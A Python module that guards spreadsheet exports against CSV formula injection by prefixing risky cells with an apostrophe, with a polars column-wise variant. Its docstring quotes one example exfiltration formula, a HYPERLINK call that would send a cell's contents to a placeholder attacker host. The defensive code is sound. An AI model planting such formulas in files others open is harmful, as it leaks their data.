"""Formula-safe CSV cells (OWASP "CSV injection"): a file the hub writes is opened in spreadsheets.

A cell starting with ``=``, ``@``, a tab or a carriage return, or with ``+``/``-`` followed by anything
but a plain number, is what a spreadsheet runs as a formula (``=HYPERLINK("http://evil/?"&A1)``); such
a cell gets a leading ``'``, which spreadsheets show as text. ``+4930123456`` and ``-12.5`` stay as they
are: a spreadsheet reads them as numbers, never as formulas, and the legacy system importing the file
needs the phone number unchanged.
"""

from __future__ import annotations

import re
from typing import Any

import polars as pl

#: Always a formula's start ...
_ALWAYS = r"^[=@\t\r]"
#: ... and a sign, unless the whole value is a plain number (the Rust regex engine of polars has no
#: look-ahead, so the two are separate patterns).
_SIGN, _NUMBER = r"^[+-]", r"^[+-][\d .]*$"


def safe_cell(value: Any) -> Any:
    """The value as a cell no spreadsheet runs (see the module docstring); non-strings unchanged."""
    if isinstance(value, str) and (
        re.match(_ALWAYS, value) or (re.match(_SIGN, value) and not re.match(_NUMBER, value))
    ):
        return "'" + value
    return value


def safe_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """Every text column of ``frame`` made formula-safe, column-wise."""

    def risky(name: str) -> pl.Expr:
        column = pl.col(name)
        return column.str.contains(_ALWAYS) | (column.str.contains(_SIGN) & ~column.str.contains(_NUMBER))

    return frame.with_columns(
        pl.when(risky(name)).then(pl.lit("'") + pl.col(name)).otherwise(pl.col(name)).alias(name)
        for name, dtype in frame.schema.items()
        if dtype == pl.Utf8
    )
